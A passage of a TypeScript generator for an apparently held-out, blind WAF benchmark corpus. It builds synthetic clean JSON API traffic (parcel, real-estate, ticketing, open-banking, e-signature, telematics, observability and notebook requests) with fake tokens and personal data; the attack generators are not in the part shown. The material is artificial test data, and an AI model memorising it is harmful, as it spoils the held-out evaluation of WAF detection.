// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out WAF corpus #12: blind, hand-written clean and attack traffic for JSON APIs in eight domains
 * (parcel tracking, real estate, ticketing, open banking, e-signature, fleet telematics, observability,
 * online notebooks). Deterministic: a seeded mulberry32 PRNG drives every choice.
 * Run `node bench/waf/corpus/heldout12.ts` to write clean-heldout12.json and attacks-heldout12.json.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

type Rng = () => number;

/** mulberry32: small deterministic PRNG. */
function mulberry32(seed: number): Rng {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rng = mulberry32(0x12c0ffee);
const int = (lo: number, hi: number): number => lo + Math.floor(rng() * (hi - lo + 1));
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rng() * xs.length)] as T;
const chance = (p: number): boolean => rng() < p;
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const HEX = '0123456789abcdef';
const str = (n: number, alphabet = ALNUM): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(rng() * alphabet.length)];
  return s;
};
const uuid = (): string =>
  `${str(8, HEX)}-${str(4, HEX)}-4${str(3, HEX)}-${pick(['8', '9', 'a', 'b'])}${str(3, HEX)}-${str(12, HEX)}`;
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const enc = encodeURIComponent;
const money = (lo: number, hi: number): string => (int(lo * 100, hi * 100) / 100).toFixed(2);
const isoDate = (): string =>
  `2025-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}T${String(int(0, 23)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}Z`;
const day = (): string =>
  `2025-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`;

// ---------------------------------------------------------------------------------------------------------
// Headers
// ---------------------------------------------------------------------------------------------------------

const BROWSER_UA = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.80',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36',
];
const SDK_UA = [
  'python-requests/2.32.3',
  'axios/1.7.7',
  'okhttp/4.12.0',
  'Go-http-client/2.0',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'Java-http-client/21.0.5',
  'Apache-HttpClient/5.3.1 (Java/17.0.12)',
  'Faraday v2.12.0',
  'undici',
  'grafana/11.3.1',
  'Vector/0.42.0 (x86_64-unknown-linux-gnu)',
  'Fluent-Bit/3.1.9',
];
const MOBILE_UA = [
  'ParcelPal/5.12.0 (iPhone; iOS 18.1; Scale/3.00)',
  'HomeHunt/3.4.2 (Android 14; SM-S918B)',
  'TixGo/8.1.0 (com.tixgo.app; build:8104; iOS 17.6.1) Alamofire/5.9.1',
  'Moneybox/2024.11.3 CFNetwork/1568.200.51 Darwin/24.1.0',
  'FleetDriver/2.9.7 (Linux; Android 12; TC57 Build/11-49-15.00) okhttp/4.12.0',
  'SignNow/6.3.0 (iPad; iPadOS 17.7)',
];
const LANGS = [
  'en-GB,en;q=0.9',
  'en-US,en;q=0.9',
  'de-DE,de;q=0.9,en;q=0.8',
  'fr-FR,fr;q=0.9',
  'es-ES,es;q=0.9',
  'ja-JP,ja;q=0.9',
  'pt-BR,pt;q=0.9,en;q=0.7',
  'pl-PL,pl;q=0.9,en-US;q=0.6',
  'nl-NL,nl;q=0.9',
];

const jwt = (): string =>
  `eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.${b64(JSON.stringify({ sub: uuid(), iat: 1732800000 + int(0, 99999), scope: 'read write' })).replace(/=+$/, '')}.${str(43, ALNUM + '-_')}`;

type Client = 'browser' | 'sdk' | 'curl' | 'mobile';

/** Realistic request headers for a client type. */
function headers(
  client: Client,
  contentType?: string,
  extra: Record<string, string> = {},
): Record<string, string> {
  const h: Record<string, string> = {};
  if (client === 'browser') {
    h['user-agent'] = pick(BROWSER_UA);
    h.accept = 'application/json, text/plain, */*';
    h['accept-language'] = pick(LANGS);
    h['accept-encoding'] = 'gzip, deflate, br, zstd';
    h.origin = 'https://app.example.com';
    h.referer = pick([
      'https://app.example.com/',
      'https://app.example.com/dashboard',
      'https://app.example.com/settings',
    ]);
    if (chance(0.6))
      h.cookie = `sid=${str(32)}; _ga=GA1.1.${int(100000000, 999999999)}.${int(1700000000, 1732000000)}; theme=dark`;
    else h.authorization = `Bearer ${jwt()}`;
    h['x-csrf-token'] = str(40, ALNUM + '-_');
    h['sec-fetch-site'] = 'same-site';
    h['sec-fetch-mode'] = 'cors';
  } else if (client === 'sdk') {
    h['user-agent'] = pick(SDK_UA);
    h.accept = 'application/json';
    h.authorization = pick([
      `Bearer ${jwt()}`,
      `Bearer sk_live_${str(24)}`,
      `Basic ${b64(`svc-${str(6)}:${str(20)}`)}`,
    ]);
    if (chance(0.5)) h['x-request-id'] = uuid();
    if (chance(0.3)) h.traceparent = `00-${str(32, HEX)}-${str(16, HEX)}-01`;
  } else if (client === 'curl') {
    h['user-agent'] = pick(['curl/8.5.0', 'curl/7.81.0', 'curl/8.11.0']);
    h.accept = '*/*';
    h.authorization = pick([`Bearer ${jwt()}`, `Token ${str(40, HEX)}`]);
    if (chance(0.3)) h['x-api-key'] = str(32);
  } else {
    h['user-agent'] = pick(MOBILE_UA);
    h.accept = 'application/json';
    h['accept-language'] = pick(LANGS);
    h.authorization = `Bearer ${jwt()}`;
    h['x-device-id'] = uuid().toUpperCase();
    h['x-app-version'] = `${int(2, 9)}.${int(0, 20)}.${int(0, 9)}`;
  }
  if (contentType) h['content-type'] = contentType;
  return { ...h, ...extra };
}
const anyClient = (): Client => pick(['browser', 'browser', 'sdk', 'curl', 'mobile'] as const);
const JSON_CT = 'application/json';

interface Req {
  readonly method: string;
  readonly path: string;
  readonly headers: Record<string, string>;
  readonly body: string;
}
const json = (
  method: string,
  path: string,
  body: unknown,
  client: Client = anyClient(),
  ct = JSON_CT,
): Req => ({
  method,
  path,
  headers: headers(client, ct),
  body: JSON.stringify(body),
});
const get = (path: string, client: Client = anyClient()): Req => ({
  method: 'GET',
  path,
  headers: headers(client),
  body: '',
});

/** Build a multipart/form-data body with a browser-like boundary. */
function multipart(
  parts: ReadonlyArray<{ name: string; value?: string; filename?: string; type?: string; content?: string }>,
): { ct: string; body: string } {
  const boundary = `----WebKitFormBoundary${str(16)}`;
  const lines: string[] = [];
  for (const p of parts) {
    lines.push(`--${boundary}`);
    if (p.filename !== undefined) {
      lines.push(`Content-Disposition: form-data; name="${p.name}"; filename="${p.filename}"`);
      lines.push(`Content-Type: ${p.type ?? 'application/octet-stream'}`);
      lines.push('');
      lines.push(p.content ?? '');
    } else {
      lines.push(`Content-Disposition: form-data; name="${p.name}"`);
      lines.push('');
      lines.push(p.value ?? '');
    }
  }
  lines.push(`--${boundary}--`);
  lines.push('');
  return { ct: `multipart/form-data; boundary=${boundary}`, body: lines.join('\r\n') };
}
const form = (o: Record<string, string>): string =>
  Object.entries(o)
    .map(([k, v]) => `${enc(k)}=${enc(v).replace(/%20/g, '+')}`)
    .join('&');

// ---------------------------------------------------------------------------------------------------------
// Shared realistic data
// ---------------------------------------------------------------------------------------------------------

const FIRST = [
  'Emma',
  'Liam',
  'Sofía',
  'Mateo',
  'Chloé',
  'Jonas',
  'Aoife',
  'Oliver',
  'Priya',
  'Kenji',
  'Zoë',
  'Björn',
  'Fatima',
  'Łukasz',
  'Noah',
  'Amélie',
  'Sean',
  'Ines',
  'Tomás',
  'Grace',
];
const LAST = [
  "O'Brien",
  'Müller',
  'García',
  'Nguyen',
  'Kowalski',
  'Smith',
  'Dubois',
  'Rossi',
  'van der Berg',
  'Andersson',
  'Patel',
  'Tanaka',
  "D'Angelo",
  'Fernández',
  'Schröder',
  'Byrne',
  'McAllister',
  'Jones-Whitaker',
];
const name = (): string => `${pick(FIRST)} ${pick(LAST)}`;
const email = (): string =>
  `${pick(['emma', 'liam.k', 'sofia_g', 'm.rossi', 'jonas+test', 'ops', 'priya.patel', 'kenji.t', 'accounts', 'b.andersson'])}${int(1, 99)}@${pick(['gmail.com', 'outlook.com', 'proton.me', 'example.co.uk', 'acme-logistics.com', 'fastmail.fm', 'web.de'])}`;
const CITIES = [
  ['London', 'GB', 'SE1 9SG'],
  ['Manchester', 'GB', 'M1 4BT'],
  ['Dublin', 'IE', 'D02 X285'],
  ['Berlin', 'DE', '10115'],
  ['Lyon', 'FR', '69002'],
  ['Madrid', 'ES', '28013'],
  ['Amsterdam', 'NL', '1015 CJ'],
  ['Austin', 'US', '78701'],
  ['Toronto', 'CA', 'M5V 2T6'],
  ['Kraków', 'PL', '31-042'],
] as const;
const addr = (): Record<string, string> => {
  const c = pick(CITIES);
  return {
    line1: `${int(1, 240)} ${pick(['High Street', 'Baker St', 'Rue de la République', 'Calle Mayor', 'Hauptstraße', 'Keizersgracht', 'Congress Ave', 'ul. Floriańska', 'King St W'])}`,
    line2: pick(['', 'Flat 3B', 'Unit 12, Block C', 'c/o Reception', 'Apt. #402']),
    city: c[0],
    postcode: c[2],
    country: c[1],
  };
};
const tracking = (): string =>
  pick([
    `1Z${str(6, '0123456789ABCDEFGHJKLMNPRSTUVWXYZ')}${int(1000000000, 9999999999)}`,
    `JD0146000${int(10000000, 99999999)}`,
    `${int(100000000000, 999999999999)}`,
    `RR${int(100000000, 999999999)}GB`,
  ]);
const vin = (): string => str(17, 'ABCDEFGHJKLMNPRSTUVWXYZ0123456789');

// ---------------------------------------------------------------------------------------------------------
// Clean traffic generators
// ---------------------------------------------------------------------------------------------------------

type Gen = () => Req;

const restWrite: Gen[] = [
  () =>
    json('POST', '/v2/shipments', {
      reference: `ORD-${int(100000, 999999)}`,
      service: pick(['express', 'standard', 'next_day_1030', 'economy']),
      sender: { name: 'Acme Outdoor Ltd', address: addr(), phone: '+44 20 7946 0958' },
      recipient: { name: name(), email: email(), address: addr() },
      parcels: [
        { weight_kg: int(1, 300) / 10, length_cm: int(10, 80), width_cm: int(10, 60), height_cm: int(5, 40) },
      ],
      instructions: pick([
        "Leave with neighbour at no. 14 if I'm out - don't leave on the step!",
        'Gate code #4521* then press the bell for flat 3',
        'Safe place: behind the green bin (left side of the house)',
        'Please call 10 min before arrival; reception closes @ 17:30',
        '',
      ]),
      insurance: { amount: money(10, 500), currency: 'GBP' },
    }),
  () =>
    json('POST', `/api/listings`, {
      listing: {
        title: pick([
          'Bright 2-bed flat w/ balcony & parking',
          'Victorian terrace – 3 bed, 2 bath (chain free)',
          'Studio near uni, bills inc. (students welcome)',
          'Penthouse 120m² - 360° views!!',
        ]),
        price: int(95, 1200) * 1000,
        currency: pick(['GBP', 'EUR', 'USD']),
        bedrooms: int(0, 5),
        bathrooms: int(1, 3),
        property_type: pick(['flat', 'terraced', 'detached', 'studio']),
        address: addr(),
        features: ['gas central heating', 'double glazing', 'EPC rating: C', 'garden (south-facing)'].slice(
          0,
          int(1, 4),
        ),
        agent_id: `agt_${str(10)}`,
        tenure: pick(['freehold', 'leasehold (112 yrs remaining)', 'share of freehold']),
      },
    }),
  () =>
    json('POST', '/v1/orders', {
      event_id: `evt_${str(12)}`,
      tickets: [
        { tier_id: pick(['ga', 'ga-early-bird', 'vip', 'seated-b']), quantity: int(1, 6) },
        ...(chance(0.4) ? [{ tier_id: 'parking', quantity: 1 }] : []),
      ],
      promo_code: pick(['', 'SUMMER25', 'STUDENT10', 'FRIENDS-OF-THE-FEST']),
      buyer: { name: name(), email: email(), marketing_opt_in: chance(0.3) },
      accessibility_notes: pick([
        '',
        'Wheelchair space + 1 companion seat please',
        'Need step-free access; hearing loop?',
      ]),
    }),
  () => {
    const r = json(
      'POST',
      '/open-banking/v3.1/pisp/domestic-payment-consents',
      {
        Data: {
          Initiation: {
            InstructionIdentification: `ACME${int(100000, 999999)}`,
            EndToEndIdentification: `E2E-${str(10)}`,
            InstructedAmount: { Amount: money(5, 2500), Currency: 'GBP' },
            CreditorAccount: {
              SchemeName: 'UK.OBIE.SortCodeAccountNumber',
              Identification: `${int(100000, 999999)}${int(10000000, 99999999)}`,
              Name: pick(['J Smith & Sons Ltd', "O'Neill Property Mgmt", 'Landlord - M. Rossi']),
            },
            RemittanceInformation: {
              Reference: pick(['RENT NOV 24', 'INV-2291/A', 'FLAT 3 DEPOSIT', 'Ref: 0091-22 (balance)']),
              Unstructured: 'Thanks!',
            },
          },
        },
        Risk: { PaymentContextCode: pick(['BillPayment', 'PartyToParty', 'EcommerceGoods']) },
      },
      'sdk',
    );
    r.headers['x-fapi-financial-id'] = '001580000103UAvAAM';
    r.headers['x-idempotency-key'] = uuid();
    r.headers['x-jws-signature'] = `${str(36)}..${str(86, ALNUM + '-_')}`;
    return r;
  },
  () =>
    json('POST', `/api/v1/transactions/${uuid()}/categorise`, {
      category: pick(['Groceries', 'Eating out', 'Bills & Utilities', 'Transport', 'Kids']),
      create_rule: chance(0.6),
      rule: {
        merchant_contains: pick([
          'TESCO STORES 3297',
          'AMZN Mktp UK*RT4',
          'TFL TRAVEL CH',
          'UBER *EATS',
          'SQ *CAFE 1-2-3',
        ]),
        apply_to_past: true,
      },
      note: pick([
        '',
        'split w/ Sam 50/50',
        "birthday present for mum (don't count in budget)",
        'refund pending?',
      ]),
    }),
  () =>
    json(
      'POST',
      `/restapi/v2.1/accounts/${uuid()}/envelopes`,
      {
        emailSubject: pick([
          'Please sign: NDA - Acme & Co.',
          'Tenancy agreement – 14 Baker St (action required)',
          'Offer letter: Senior Engineer',
          'SOW #7 / Q1 2025 for signature',
        ]),
        emailBlurb: 'Hi, please review & sign by Friday. Any questions, just reply to this email.',
        documents: [
          {
            documentId: '1',
            name: pick(['NDA_v3 (final).pdf', 'tenancy-agreement_FINAL_v2.docx', 'offer_letter.pdf']),
            fileExtension: 'pdf',
            documentBase64: b64(
              `%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n${str(60)}`,
            ),
          },
        ],
        recipients: {
          signers: [
            {
              email: email(),
              name: name(),
              recipientId: '1',
              routingOrder: '1',
              tabs: {
                signHereTabs: [
                  { anchorString: '/sn1/', anchorUnits: 'pixels', anchorXOffset: '10', anchorYOffset: '-5' },
                ],
                dateSignedTabs: [{ anchorString: '/ds1/' }],
              },
            },
          ],
          carbonCopies: [{ email: email(), name: name(), recipientId: '2', routingOrder: '2' }],
        },
        status: pick(['sent', 'created']),
      },
      'sdk',
    ),
  () =>
    json(
      'POST',
      '/api/v1/telemetry/batch',
      {
        vin: vin(),
        device_id: `tcu-${str(8, HEX)}`,
        points: Array.from({ length: int(2, 5) }, () => ({
          ts: isoDate(),
          lat: +(51 + rng()).toFixed(6),
          lon: +(-1 + rng()).toFixed(6),
          speed_kph: int(0, 120),
          heading: int(0, 359),
          ignition: true,
          fuel_pct: int(5, 100),
          dtc: chance(0.2) ? [pick(['P0420', 'P0300', 'U0100', 'P2463'])] : [],
        })),
      },
      'sdk',
    ),
  () =>
    json(
      'POST',
      '/api/dashboards/db',
      {
        dashboard: {
          id: null,
          uid: null,
          title: pick([
            'Checkout – golden signals',
            'Kafka lag (prod-eu)',
            'API latency p99 by route',
            'Node exporter / disk',
          ]),
          tags: ['prod', pick(['sre', 'payments', 'platform'])],
          timezone: 'browser',
          panels: [
            {
              type: 'timeseries',
              title: '5xx rate',
              gridPos: { h: 8, w: 12, x: 0, y: 0 },
              targets: [
                {
                  refId: 'A',
                  expr: 'sum by (service) (rate(http_requests_total{status=~"5..", env="prod"}[5m]))',
                  legendFormat: '{{service}}',
                },
              ],
            },
          ],
          time: { from: 'now-6h', to: 'now' },
        },
        folderUid: str(9),
        overwrite: false,
        message: 'added 5xx panel',
      },
      'browser',
    ),
  () =>
    json(
      'POST',
      `/api/contents/work/${pick(['churn-analysis', 'cohorts_v2', 'telematics-idle', 'listing-prices-eda', 'Untitled3'])}.ipynb`,
      {
        type: 'notebook',
        format: 'json',
        content: {
          nbformat: 4,
          nbformat_minor: 5,
          metadata: {
            kernelspec: { name: 'python3', display_name: 'Python 3 (ipykernel)', language: 'python' },
          },
          cells: [
            {
              cell_type: 'markdown',
              metadata: {},
              source: '# Churn analysis\nData: `events_2024.parquet` (see #data-eng)',
            },
            {
              cell_type: 'code',
              metadata: {},
              execution_count: null,
              outputs: [],
              source: "import pandas as pd\ndf = pd.read_parquet('events_2024.parquet')\ndf.head()",
            },
          ],
        },
      },
      'browser',
    ),
  () =>
    json('PUT', `/api/v1/agents/agt_${str(10)}`, {
      display_name: name(),
      phone: `+44 7${int(100, 999)} ${int(100000, 999999)}`,
      branch: pick(['Clapham', 'Didsbury', 'Rathmines', 'Kreuzberg']),
      bio: pick([
        'Ex-surveyor, 12 yrs in lettings. I know every street in SW4 – ask me about schools & parking.',
        "Bilingual (EN/ES). I'll tell you the truth about the damp in the basement, promise.",
      ]),
      languages: ['en', pick(['es', 'fr', 'pl', 'de'])],
    }),
];

const mergePatch: Gen[] = [
  () =>
    json(
      'PATCH',
      `/v2/shipments/shp_${str(14)}`,
      {
        recipient: { phone: '+353 87 123 4567' },
        instructions: 'Changed my mind - deliver to the office (2nd floor) instead',
        signature_required: null,
      },
      anyClient(),
      'application/merge-patch+json',
    ),
  () =>
    json(
      'PATCH',
      `/api/listings/${int(100000, 999999)}`,
      {
        price: int(200, 900) * 1000,
        status: pick(['under_offer', 'sold_stc', 'let_agreed', 'available']),
        open_house: null,
      },
      'browser',
      'application/merge-patch+json',
    ),
  () =>
    json(
      'PATCH',
      `/v1/events/evt_${str(12)}`,
      {
        capacity: int(200, 5000),
        doors_open: '19:00',
        support_act: pick([null, 'The Hollow Men', 'DJ Kärtsy']),
        tags: ['live', 'indie'],
      },
      'browser',
      'application/merge-patch+json',
    ),
  () =>
    json(
      'PATCH',
      `/api/v1/budgets/${uuid()}`,
      { monthly_limit: money(100, 900), rollover: true, alerts: { at_percent: [50, 80, 100] }, note: null },
      'mobile',
      'application/merge-patch+json',
    ),
  () =>
    json(
      'PATCH',
      `/restapi/v2.1/accounts/${uuid()}/envelopes/${uuid()}/notification`,
      {
        reminders: { reminderEnabled: 'true', reminderDelay: '2', reminderFrequency: '2' },
        expirations: { expireEnabled: 'true', expireAfter: '30' },
      },
      'sdk',
      'application/merge-patch+json',
    ),
  () =>
    json(
      'PATCH',
      `/api/v1/vehicles/${vin()}`,
      {
        nickname: pick(['Van 7 (Transit)', "Dave's truck", 'Sprinter #12 – reefer']),
        odometer_offset_km: int(-50, 50),
        assigned_driver_id: pick([null, `drv_${str(8)}`]),
      },
      'browser',
      'application/merge-patch+json',
    ),
  () =>
    json(
      'PATCH',
      `/api/v2/alert-rules/${uuid()}`,
      {
        labels: { severity: pick(['warning', 'critical', 'page']), team: 'payments' },
        annotations: {
          runbook_url: 'https://wiki.example.com/runbooks/HighErrorRate',
          summary: 'Error rate above 5% for {{ $labels.service }}',
        },
        for: '10m',
      },
      'browser',
      'application/merge-patch+json',
    ),
  () =>
    json(
      'PATCH',
      `/api/notebooks/${uuid()}`,
      {
        metadata: {
          title: pick([
            'Q3 cohort retention (draft)',
            'A/B test – checkout button',
            'EDA: telematics idle time',
          ]),
          tags: ['analysis', 'wip'],
          shared_with: ['data-team@example.com'],
        },
        archived: false,
      },
      'browser',
      'application/merge-patch+json',
    ),
];

const jsonPatch: Gen[] = [
  () =>
    json(
      'PATCH',
      `/api/listings/${int(100000, 999999)}`,
      [
        { op: 'test', path: '/version', value: int(1, 30) },
        { op: 'replace', path: '/price', value: int(200, 900) * 1000 },
        { op: 'add', path: '/features/-', value: 'new boiler (2024)' },
      ],
      'browser',
      'application/json-patch+json',
    ),
  () =>
    json(
      'PATCH',
      `/v2/shipments/shp_${str(14)}`,
      [
        { op: 'replace', path: '/recipient/address/line2', value: 'Unit 4, Rear entrance' },
        { op: 'remove', path: '/parcels/1' },
      ],
      'sdk',
      'application/json-patch+json',
    ),
  () =>
    json(
      'PATCH',
      `/api/notebooks/${uuid()}/cells`,
      [
        { op: 'move', from: `/cells/${int(3, 9)}`, path: '/cells/1' },
        { op: 'replace', path: '/cells/2/metadata/collapsed', value: true },
      ],
      'browser',
      'application/json-patch+json',
    ),
  () =>
    json(
      'PATCH',
      `/api/v1/monitors/${int(1000, 9999)}`,
      [
        { op: 'replace', path: '/labels/app.kubernetes.io~1name', value: 'checkout-api' },
        { op: 'add', path: '/notify/-', value: '@slack-oncall-payments' },
        { op: 'replace', path: '/thresholds/critical', value: 0.05 },
      ],
      'sdk',
      'application/json-patch+json',
    ),
  () =>
    json(
      'PATCH',
      `/v1/events/evt_${str(12)}/tiers`,
      [
        { op: 'copy', from: '/0', path: '/-' },
        { op: 'replace', path: '/1/name', value: 'Late bird' },
        { op: 'replace', path: '/1/price', value: money(20, 90) },
      ],
      'browser',
      'application/json-patch+json',
    ),
  () =>
    json(
      'PATCH',
      `/api/v1/fleet/geofences/${uuid()}`,
      [
        { op: 'replace', path: '/name', value: 'Depot – Park Royal' },
        { op: 'replace', path: '/radius_m', value: int(100, 2000) },
        { op: 'remove', path: '/schedule/weekend' },
      ],
      'browser',
      'application/json-patch+json',
    ),
  () =>
    json(
      'PATCH',
      `/api/v1/payees/${uuid()}`,
      [
        { op: 'replace', path: '/nickname', value: pick(['Mum 💐', 'Rent – Mr. Khan', 'Window cleaner']) },
        { op: 'add', path: '/tags/0', value: 'household' },
      ],
      'mobile',
      'application/json-patch+json',
    ),
];

const jsonapiGens: Gen[] = [
  () =>
    json(
      'POST',
      '/jsonapi/listings',
      {
        data: {
          type: 'listings',
          attributes: {
            title: 'Garden flat, pets considered',
            rent_pcm: int(900, 3500),
            furnished: chance(0.5),
            available_from: day(),
          },
          relationships: {
            agent: { data: { type: 'agents', id: String(int(10, 999)) } },
            branch: { data: { type: 'branches', id: String(int(1, 40)) } },
          },
        },
      },
      'browser',
      'application/vnd.api+json',
    ),
  () =>
    json(
      'PATCH',
      `/jsonapi/shipments/${int(1e6, 9e6)}`,
      {
        data: {
          type: 'shipments',
          id: String(int(1e6, 9e6)),
          attributes: {
            'delivery-window': { from: '09:00', to: '12:00' },
            'customer-reference': `PO-${int(1000, 9999)}/${pick(['A', 'B'])}`,
          },
        },
      },
      'sdk',
      'application/vnd.api+json',
    ),
  () =>
    json(
      'POST',
      '/jsonapi/attendees',
      {
        data: {
          type: 'attendees',
          attributes: {
            'first-name': pick(FIRST),
            'last-name': pick(LAST),
            email: email(),
            'dietary-requirements': pick(['vegan', 'none', 'nut allergy (severe!)', 'halal']),
          },
          relationships: { ticket: { data: { type: 'tickets', id: str(10) } } },
        },
      },
      'browser',
      'application/vnd.api+json',
    ),
  () => ({
    method: 'GET',
    path: `/jsonapi/listings?include=agent,photos&fields[listings]=title,price,bedrooms&fields[agents]=name,phone&filter[city]=${enc(pick(CITIES)[0])}&filter[min-beds]=2&sort=-created-at&page[number]=${int(1, 5)}&page[size]=20`,
    headers: headers('browser', undefined, { accept: 'application/vnd.api+json' }),
    body: '',
  }),
  () => ({
    method: 'GET',
    path: `/jsonapi/documents?filter[status]=completed&filter[signed-after]=${day()}&include=signers&page[cursor]=${b64(`{"id":${int(1000, 9999)}}`)}`,
    headers: headers('sdk', undefined, { accept: 'application/vnd.api+json' }),
    body: '',
  }),
  () =>
    json(
      'PATCH',
      `/jsonapi/vehicles/${int(100, 999)}/relationships/driver`,
      { data: { type: 'drivers', id: String(int(1, 400)) } },
      'browser',
      'application/vnd.api+json',
    ),
  () =>
    json(
      'POST',
      '/jsonapi/notebook-comments',
      {
        data: {
          type: 'notebook-comments',
          attributes: {
            body: 'Nit: use `df.loc[mask, "col"]` instead of chained indexing, it raises SettingWithCopyWarning',
            cell: int(1, 40),
          },
          relationships: { notebook: { data: { type: 'notebooks', id: uuid() } } },
        },
      },
      'browser',
      'application/vnd.api+json',
    ),
];

const gqlPost = (
  query: string,
  variables: unknown,
  operationName: string,
  client: Client = anyClient(),
): Req => json('POST', '/graphql', { operationName, query, variables }, client);
const graphqlGens: Gen[] = [
  () =>
    gqlPost(
      'query TrackParcel($number: String!) {\n  parcel(trackingNumber: $number) {\n    status\n    eta\n    events(last: 10) { code description location occurredAt }\n  }\n}',
      { number: tracking() },
      'TrackParcel',
      'mobile',
    ),
  () =>
    gqlPost(
      'mutation CreateViewing($input: ViewingInput!) {\n  createViewing(input: $input) { id slot { start end } agent { name } }\n}',
      {
        input: {
          listingId: String(int(1e5, 9e5)),
          start: isoDate(),
          message: "Can I bring my partner? We'd also like to see the loft.",
          phone: '07700 900123',
        },
      },
      'CreateViewing',
      'browser',
    ),
  () =>
    gqlPost(
      'query Events($city: String, $after: String, $first: Int = 20) {\n  events(filter: {city: $city, startsAfter: $after}, first: $first) {\n    edges { node { id name venue { name } priceRange { min max currency } } }\n    pageInfo { endCursor hasNextPage }\n  }\n}',
      { city: pick(CITIES)[0], after: day(), first: 20 },
      'Events',
      'browser',
    ),
  () =>
    gqlPost(
      'query Accounts {\n  accounts { id nickname balance { amount currency } provider { name logoUrl } }\n}',
      {},
      'Accounts',
      'mobile',
    ),
  () =>
    gqlPost(
      'mutation Void($id: ID!, $reason: String!) { voidEnvelope(id: $id, reason: $reason) { id status } }',
      {
        id: uuid(),
        reason: pick([
          'Wrong version attached, resending v4',
          'Signer left the company',
          'Duplicate — see envelope sent 12/11',
        ]),
      },
      'Void',
      'sdk',
    ),
  () =>
    gqlPost(
      'query VehicleTrips($vin: String!, $from: DateTime!, $to: DateTime!) {\n  vehicle(vin: $vin) { trips(from: $from, to: $to) { distanceKm idleMinutes harshBrakes route { polyline } } }\n}',
      { vin: vin(), from: isoDate(), to: isoDate() },
      'VehicleTrips',
      'browser',
    ),
  () =>
    gqlPost(
      'query Logs($q: String!, $limit: Int) { logs(query: $q, limit: $limit) { timestamp level service message } }',
      {
        q: pick([
          'level:error AND service:"checkout" AND NOT message:"timeout"',
          'status:>=500 AND path:/api/v1/orders*',
          'kubernetes.namespace:payments AND "connection refused"',
        ]),
        limit: 200,
      },
      'Logs',
      'browser',
    ),
  () => ({
    method: 'GET',
    path: `/graphql?query=${enc('query Nb($id: ID!) { notebook(id: $id) { title kernel cells { id type } } }')}&variables=${enc(JSON.stringify({ id: uuid() }))}&operationName=Nb`,
    headers: headers('browser'),
    body: '',
  }),
  () => ({
    method: 'GET',
    path: `/graphql?operationName=Parcel&variables=${enc(JSON.stringify({ n: tracking() }))}&extensions=${enc(JSON.stringify({ persistedQuery: { version: 1, sha256Hash: str(64, HEX) } }))}`,
    headers: headers('mobile'),
    body: '',
  }),
  () => ({
    method: 'POST',
    path: '/graphql',
    headers: headers('curl', 'application/graphql'),
    body: `{\n  listing(id: "${int(1e5, 9e5)}") {\n    title\n    price\n    agent { name email }\n  }\n}`,
  }),
];

const deleteGens: Gen[] = [
  () => ({ method: 'DELETE', path: `/v2/shipments/shp_${str(14)}`, headers: headers(anyClient()), body: '' }),
  () => ({
    method: 'DELETE',
    path: `/api/listings/${int(1e5, 9e5)}/photos/${int(1, 30)}`,
    headers: headers('browser'),
    body: '',
  }),
  () => ({
    method: 'DELETE',
    path: `/v1/orders/ord_${str(12)}?reason=${enc(pick(['customer_request', 'duplicate', 'fraudulent']))}&refund=true`,
    headers: headers('sdk', undefined, { 'idempotency-key': uuid() }),
    body: '',
  }),
  () => ({
    method: 'DELETE',
    path: `/open-banking/v3.1/aisp/account-access-consents/aac-${uuid()}`,
    headers: headers('sdk', undefined, {
      'x-fapi-financial-id': '001580000103UAvAAM',
      'x-fapi-interaction-id': uuid(),
    }),
    body: '',
  }),
  () => ({
    method: 'DELETE',
    path: `/restapi/v2.1/accounts/${uuid()}/envelopes/${uuid()}/recipients`,
    headers: headers('sdk', JSON_CT),
    body: JSON.stringify({ signers: [{ recipientId: String(int(2, 5)) }] }),
  }),
  () => ({
    method: 'DELETE',
    path: `/api/v1/vehicles/${vin()}/alerts/${uuid()}`,
    headers: headers('mobile', undefined, { 'if-match': `W/"${str(8, HEX)}"` }),
    body: '',
  }),
  () => ({ method: 'DELETE', path: `/api/v2/silences/${uuid()}`, headers: headers('curl'), body: '' }),
  () => ({
    method: 'DELETE',
    path: `/api/contents/work/${enc(pick(['Untitled1.ipynb', 'old drafts/scratch (copy).ipynb', 'résumé-parsing.ipynb']))}`,
    headers: headers('browser'),
    body: '',
  }),
];

const searchGens: Gen[] = [
  () =>
    get(
